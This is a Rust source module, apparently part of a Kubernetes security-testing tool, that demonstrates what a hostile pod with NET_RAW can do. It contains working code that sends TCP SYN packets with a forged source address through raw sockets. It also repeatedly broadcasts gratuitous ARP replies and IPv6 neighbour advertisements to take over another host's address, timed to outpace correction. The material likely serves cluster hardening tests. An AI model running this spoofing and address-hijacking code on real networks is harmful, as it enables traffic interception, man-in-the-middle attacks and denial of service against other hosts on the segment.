//! What a hostile pod with NET_RAW does: packets with somebody else's source, and claims to somebody else's address.

use std::io;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::thread;
use std::time::{Duration, Instant};

use serde_json::json;
use socket2::{Domain, Protocol, Socket, Type};

use crate::Outcome;
use crate::args::{Arguments, Usage};
use crate::report::{error_name, line};
use crate::system;

pub const SPOOF_HELP: &str = "spoof --source IP --destination IP --port N [--source-port N] [--count N]: SYNs whose source is forged";
pub const CLAIM_HELP: &str = "claim --interface NAME --address IP [--duration MS]: tells the whole segment, by ARP or neighbour \
advertisements, that IP is here";

const TCP_HEADER: usize = 20;
const SYN: u8 = 2;
/// Between two claims: faster than a neighbour corrects the record.
const CLAIM_EVERY: Duration = Duration::from_millis(50);

pub fn spoof(mut arguments: Arguments) -> Outcome {
    let source: IpAddr = arguments.required("source")?;
    let destination: IpAddr = arguments.required("destination")?;
    let port: u16 = arguments.required("port")?;
    let source_port: u16 = arguments.value("source-port", 40_000)?;
    let count: u16 = arguments.value("count", 1)?;
    arguments.finish()?;
    if source.is_ipv4() != destination.is_ipv4() {
        return Err(Usage(
            "source and destination are of different families".into(),
        ));
    }
    let result = (0..count).try_for_each(|turn| {
        let from = source_port.wrapping_add(turn);
        send_raw(
            &packet(source, destination, from, port, u32::from(turn)),
            destination,
        )
    });
    Ok(report("spoofed", u64::from(count), result))
}

fn report(event: &str, count: u64, result: io::Result<()>) -> bool {
    line(
        &json!({ "event": event, "count": count, "error": result.as_ref().err().map(error_name) }),
    );
    result.is_ok()
}

fn send_raw(packet: &[u8], destination: IpAddr) -> io::Result<()> {
    let domain = if destination.is_ipv4() {
        Domain::IPV4
    } else {
        Domain::IPV6
    };
    // IPPROTO_RAW: the header is ours, for IPv6 as well.
    let socket = Socket::new(domain, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))?;
    let to = std::net::SocketAddr::new(destination, 0);
    socket.send_to(packet, &to.into()).map(drop)
}

fn packet(
    source: IpAddr,
    destination: IpAddr,
    source_port: u16,
    port: u16,
    sequence: u32,
) -> Vec<u8> {
    let mut tcp = vec![0_u8; TCP_HEADER];
    tcp[0..2].copy_from_slice(&source_port.to_be_bytes());
    tcp[2..4].copy_from_slice(&port.to_be_bytes());
    tcp[4..8].copy_from_slice(&sequence.to_be_bytes());
    tcp[12] = (TCP_HEADER as u8 / 4) << 4;
    tcp[13] = SYN;
    tcp[14..16].copy_from_slice(&0xffff_u16.to_be_bytes());
    let sum = checksum(&[
        &pseudo_header(source, destination, TCP_HEADER as u16, 6),
        &tcp,
    ]);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    let mut packet = ip_header(source, destination);
    packet.extend_from_slice(&tcp);
    packet
}

fn octets(address: IpAddr) -> Vec<u8> {
    match address {
        IpAddr::V4(v4) => v4.octets().to_vec(),
        IpAddr::V6(v6) => v6.octets().to_vec(),
    }
}

fn ip_header(source: IpAddr, destination: IpAddr) -> Vec<u8> {
    let mut header = if source.is_ipv4() {
        // Length and checksum are the kernel's to fill in (raw(7)).
        vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 6, 0, 0]
    } else {
        vec![0x60, 0, 0, 0, 0, TCP_HEADER as u8, 6, 64]
    };
    header.extend(octets(source));
    header.extend(octets(destination));
    header
}

fn pseudo_header(source: IpAddr, destination: IpAddr, length: u16, protocol: u8) -> Vec<u8> {
    let mut header = octets(source);
    header.extend(octets(destination));
    header.extend([0, protocol]);
    header.extend(length.to_be_bytes());
    header
}

/// The Internet checksum (RFC 1071). Every part but the last has an even length.
fn checksum(parts: &[&[u8]]) -> u16 {
    let mut sum = 0_u32;
    for part in parts {
        for pair in part.chunks(2) {
            sum += u32::from(u16::from_be_bytes([
                pair[0],
                pair.get(1).copied().unwrap_or(0),
            ]));
        }
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

pub fn claim(mut arguments: Arguments) -> Outcome {
    let interface: String = arguments.required("interface")?;
    let address: IpAddr = arguments.required("address")?;
    let duration = arguments.milliseconds("duration", 2_000)?;
    arguments.finish()?;
    let mut sent = 0;
    let result = repeat_claim(&interface, address, duration, &mut sent);
    Ok(report("claimed", sent, result))
}

fn repeat_claim(
    interface: &str,
    address: IpAddr,
    duration: Duration,
    sent: &mut u64,
) -> io::Result<()> {
    let socket = system::packet_socket(system::interface_index(interface)?)?;
    let mac = system::hardware_address(&socket, interface)?;
    let frame = match address {
        IpAddr::V4(v4) => arp_reply(mac, v4),
        IpAddr::V6(v6) => neighbour_advertisement(mac, v6),
    };
    let end = Instant::now() + duration;
    while Instant::now() < end {
        system::send(&socket, &frame)?;
        *sent += 1;
        thread::sleep(CLAIM_EVERY);
    }
    Ok(())
}

const BROADCAST: [u8; 6] = [0xff; 6];
const ALL_NODES: [u8; 6] = [0x33, 0x33, 0, 0, 0, 1];

fn arp_reply(mac: [u8; 6], address: Ipv4Addr) -> Vec<u8> {
    let mut frame = ethernet(BROADCAST, mac, 0x0806);
    frame.extend([0, 1, 8, 0, 6, 4, 0, 2]);
    frame.extend(mac);
    frame.extend(address.octets());
    frame.extend(BROADCAST);
    frame.extend(address.octets());
    frame
}

fn neighbour_advertisement(mac: [u8; 6], address: Ipv6Addr) -> Vec<u8> {
    let all_nodes = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
    // Type 136, flag "override", then the target and its link-layer address (RFC 4861).
    let mut message = vec![136, 0, 0, 0, 0x20, 0, 0, 0];
    message.extend(address.octets());
    message.extend([2, 1]);
    message.extend(mac);
    let header = pseudo_header(address.into(), all_nodes.into(), message.len() as u16, 58);
    let sum = checksum(&[&header, &message]);
    message[2..4].copy_from_slice(&sum.to_be_bytes());
    let mut frame = ethernet(ALL_NODES, mac, 0x86dd);
    frame.extend([0x60, 0, 0, 0, 0, message.len() as u8, 58, 255]);
    frame.extend(address.octets());
    frame.extend(all_nodes.octets());
    frame.extend(message);
    frame
}

fn ethernet(to: [u8; 6], from: [u8; 6], kind: u16) -> Vec<u8> {
    let mut frame = to.to_vec();
    frame.extend(from);
    frame.extend(kind.to_be_bytes());
    frame
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_forged_packet_sums_to_nothing() {
        for (source, destination) in [("10.0.0.1", "10.0.0.2"), ("fd00::1", "fd00::2")] {
            let (source, destination) = (
                source.parse().expect("an IP"),
                destination.parse().expect("an IP"),
            );
            let bytes = packet(source, destination, 40_000, 80, 1);
            let tcp = &bytes[bytes.len() - TCP_HEADER..];
            let header = pseudo_header(source, destination, TCP_HEADER as u16, 6);
            assert_eq!(checksum(&[&header, tcp]), 0);
        }
    }

    #[test]
    fn an_arp_reply_is_forty_two_bytes() {
        assert_eq!(arp_reply([2; 6], Ipv4Addr::new(10, 0, 0, 1)).len(), 42);
    }
}
